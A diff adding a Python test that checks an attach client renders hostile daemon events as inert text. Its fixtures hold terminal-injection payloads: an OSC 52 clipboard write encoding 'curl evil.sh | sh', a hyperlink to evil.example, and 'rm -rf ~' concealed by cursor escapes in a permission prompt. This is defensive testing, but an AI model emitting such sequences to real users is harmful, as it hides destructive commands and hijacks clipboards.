@@ -1,0 +1,124 @@
+"""What `threadline attach` prints can never act on the owner's terminal.
+
+A small attach server speaking the daemon's protocol (`bridge/attach.py`) sends the
+real attach client (`run_terminal`) one of every event, each carrying hostile text:
+OSC 52 clipboard writes, OSC 8 hyperlinks, cursor movement that would overwrite a
+permission prompt's command, C1 controls, a carriage return, a bidi override, rich
+markup in the session title and names, and a line that is not JSON.  The terminal's
+output (a real rich console, colours on) holds no escape sequence but rich's own
+colours, and shows the hostile text as inert, readable characters."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import re
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+from rich.console import Console
+
+from bridge.attach_client import run_terminal
+from bridge.terminal_text import clean
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+HOSTILE_EVENTS: list[dict[str, Any]] = [
+    {
+        "t": "attached",
+        "conn": 1,
+        "busy": False,
+        "session": {
+            "id": "s1",
+            "title": "[bold]Fix[/bold] the [/oops] bug \x1b]0;pwned\x07",
+            "cwd": "/code/app\x1b[2J",
+            "state": "idle",
+        },
+    },
+    {"t": "history", "items": [{"role": "assistant", "text": f"copied {OSC52} for you"}]},
+    {"t": "prompt", "source": "telegram", "by": "Eve [/] [link=x]", "text": "hi\x9b2J there"},
+    {"t": "turn", "prompt": "x"},
+    {"t": "delta", "text": "Click \x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\ now\r"},
+    {"t": "delta", "text": "safe\u202eexe.txt\n"},
+    {"t": "tool", "id": "t1", "name": "Bash", "line": "Bash rm -rf ~\x1b[1A\x1b[2Kls -la"},
+    {"t": "tool_done", "id": "t1", "error": True, "output": "\x1b[?1049h\x1bcboom\x90q\x9c"},
+    {
+        "t": "permission",
+        "request": "r1",
+        "tool": "Bash",
+        "line": "Bash echo hi [/x] \x1b[2K\r",
+        "detail": "echo hi\x1b[8m\x1b[1A; rm -rf ~\x07",
+        "language": "bash",
+    },
+    {"t": "decided", "request": "r1", "state": "denied", "by": "[bold]Mallory\x07"},
+    {"t": "end", "result": OSC52, "duration_ms": 1200, "cost": 0.01, "tools": ["t1"]},
+    {"t": "failed", "error": "[/boom] " + OSC52},
+    {"t": "notice", "text": "\x1bP+q544e\x1b\\notice"},
+    {"t": "error", "error": "[red]err\x1b[6n"},
+]
+
+# rich's own colour codes; anything else that starts an escape is ours to find
+RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+async def _serve(path: Path, lines: list[bytes]) -> asyncio.Server:
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        op = json.loads(await reader.readline())
+        assert op == {"op": "attach", "session": "s1"}
+        for line in lines:
+            writer.write(line)
+        await writer.drain()
+        writer.close()
+
+    return await asyncio.start_unix_server(handle, path=str(path))
+
+
+async def _no_input() -> AsyncIterator[str]:
+    await asyncio.Event().wait()
+    yield ""
+
+
+async def test_hostile_text_is_shown_inert_through_the_attach_client(tmp_path: Path) -> None:
+    sock = tmp_path / "attach.sock"
+    lines = [json.dumps(ev).encode() + b"\n" for ev in HOSTILE_EVENTS]
+    lines.insert(5, b"\x1b]52;c;not json\x07\n")  # not JSON: reported, not a crash
+    server = await _serve(sock, lines)
+    out = io.StringIO()
+    console = Console(file=out, force_terminal=True, color_system="standard", width=200)
+    try:
+        code = await asyncio.wait_for(run_terminal(sock, "s1", console, _no_input()), 30)
+    finally:
+        server.close()
+    assert code == 1, "the daemon closed the connection"
+    raw = out.getvalue()
+    assert "\x1b" in raw, "colours on: rich's own codes are there"
+    shown = RICH_SGR.sub("", raw)
+    assert not CONTROL.findall(shown), sorted(set(CONTROL.findall(shown)))
+    flat = " ".join(shown.split())
+    for needle in (
+        "[bold]Fix[/bold] the [/oops] bug ␛]0;pwned␇",  # markup shown as typed
+        "Eve [/] [link=x] (telegram)",
+        "copied ␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ for you",  # the clipboard write, inert
+        "hi\\x9b2J there",
+        "Click ␛]8;;https://evil.example/␛\\here",
+        "safe<U+202E>exe.txt",
+        "Bash rm -rf ~␛[1A␛[2Kls -la",
+        "Allow Bash echo hi [/x] ␛[2K␍?",
+        "echo hi␛[1A; rm -rf ~␇",  # the whole command: conceal dropped, cursor-up inert
+        "Denied by [bold]Mallory␇",
+        "⚠ Claude Code failed: [/boom] ␛]52;c;",
+        "bad event",
+        "␛P+q544e␛\\notice",
+        "[red]err␛[6n",
+        "The daemon closed the connection.",
+    ):
+        assert needle in flat, (needle, flat)
+
+
+def test_clean_keeps_text_newlines_tabs_and_drops_only_colour() -> None:
+    assert clean("a\tb\nc") == "a\tb\nc"
+    assert clean("\x1b[1;31mred\x1b[0m \x9b32mgreen\x9b0m") == "red green"
+    assert clean("\x00\x07\x08\x0b\x0c\r\x1b\x7f\x85\x9c") == "␀␇␈␋␌␍␛␡\\x85\\x9c"
+    assert clean("é€😀 ordinary") == "é€😀 ordinary"
